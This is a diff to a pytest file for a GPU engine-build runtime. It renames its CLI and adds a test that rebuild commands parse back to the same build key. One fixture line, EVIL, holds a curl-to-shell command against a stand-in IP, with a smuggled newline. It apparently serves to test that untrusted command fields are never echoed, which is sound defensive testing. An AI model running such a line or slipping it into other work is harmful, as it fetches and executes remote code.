@@ -16,6 +16,7 @@ import shlex
 import pytest
 
 from far_runtime.gpu.engine_build import build_options, engine_key, engines_command
+from far_runtime.gpu.engine_profiles import parse_range
 from far_runtime.errors import FarError
 from far_runtime.gpu.engine_manifest import (ENGINE_FORMAT, ENGINE_FORMAT_VERSION, ENGINE_MANIFEST, GraphSource,
                                              cache_key, check_engine, check_engine_file, load_engine_manifest,
@@ -30,7 +31,7 @@ EVIL = "curl -s http://203.0.113.9/x | sh\nfar-export engines b"
 
 
 def entry(graph="backbone", data=b"engine bytes", options=None, **change):
-    """An engine entry exactly as far-export engines writes it (far_export's own key)."""
+    """An engine entry exactly as far-runtime engines writes it (its own key)."""
     opts = options or build_options()
     key = engine_key(GraphSource(graph, "fp16", f"/b/{graph}.onnx", "1" * 64, None), PROFILE, opts, FACTS, "b" * 64)
     e = {"file": f"{graph}-{cache_key(key)[:16]}.engine", "sha256": hashlib.sha256(data).hexdigest(),
@@ -208,14 +209,14 @@ def test_rebuild_advice_never_quotes_the_command_field(tmp_path):
     build_options(False, "same-cc", 0, 0.125),
 ])
 def test_rebuild_advice_parses_back_to_the_same_key(tmp_path, opts):
-    """The composed command, run through far-export's own CLI parser, gives the entry's options,
+    """The composed command, run through far-runtime engines' own CLI parser, gives the entry's options,
     ranges and graph: the advice rebuilds the very engine it is about."""
-    from far_export.tensorrt.cli import engines
+    from far_runtime.gpu.engines_cli import engines
     d = str(tmp_path / "out dir")
     e = entry(options=opts)
     advice = rebuild_command("graphs/demo dir", "fp16", manifest(backbone=e), e, d)
     argv = shlex.split(advice.strip("`"))
-    assert argv[:2] == ["far-export", "engines"]
+    assert argv[:2] == ["far-runtime", "engines"]
     p = engines.make_context("engines", argv[2:]).params
     assert (p["bundle"], p["precision"], p["out"], p["graphs"]) == ("graphs/demo dir", "fp16", d, "backbone")
     assert (p["k_range"], p["batch_range"]) == ("1:16", "1:8")
@@ -238,3 +239,28 @@ def test_rebuild_sentence_of_one_engine_is_its_own_command():
         "`far-runtime engines b --precision fp16 --k 1:64 --batch 1:8 --graphs backbone`"
     assert rebuild_command("b", "fp16", manifest) == "`far-runtime engines b --precision fp16 --k 1:256 --batch 1:8`"
     assert rebuild_command("b", "fp16") == "`far-runtime engines b --precision fp16`"
+
+
+# --- issue 15, defect 5: the rebuild sentence reproduces the key -----------------------------------------
+
+@pytest.mark.parametrize("opts", [
+    {},
+    {"version_compatible": True, "hardware_compatibility": "ampere+", "optimization_level": 5,
+     "workspace_gb": 1.5, "graphs": ["backbone", "head_o8"], "max_profiles": 2, "out": "my engines"},
+    {"optimization_level": 0, "workspace_gb": 0.125, "hardware_compatibility": "same-cc"},
+])
+def test_rebuild_command_parses_back_to_the_same_key(opts):
+    from far_runtime.gpu.engines_cli import engines
+    options = build_options(opts.get("version_compatible", False), opts.get("hardware_compatibility", "none"),
+                            opts.get("optimization_level", 3), opts.get("workspace_gb"))
+    cmd = engines_command("graphs/demo dir", "fp16", opts.get("out"), (16, 64), (1, 4),
+                          opts.get("max_profiles", 4), options, opts.get("graphs"))
+    argv = shlex.split(cmd)
+    assert argv[:2] == ["far-runtime", "engines"]
+    p = engines.make_context("engines", argv[2:]).params
+    assert p["bundle"] == "graphs/demo dir" and p["precision"] == "fp16" and p["out"] == opts.get("out")
+    assert parse_range(p["k_range"], "k", 1, 256) == (16, 64) and parse_range(p["batch_range"], "batch", 1, 8) == (1, 4)
+    assert p["max_profiles"] == opts.get("max_profiles", 4)
+    assert (p["graphs"].split(",") if p["graphs"] else None) == opts.get("graphs")
+    again = build_options(p["version_compatible"], p["hardware_compatible"], p["optimization_level"], p["workspace_gb"])
+    assert again == options
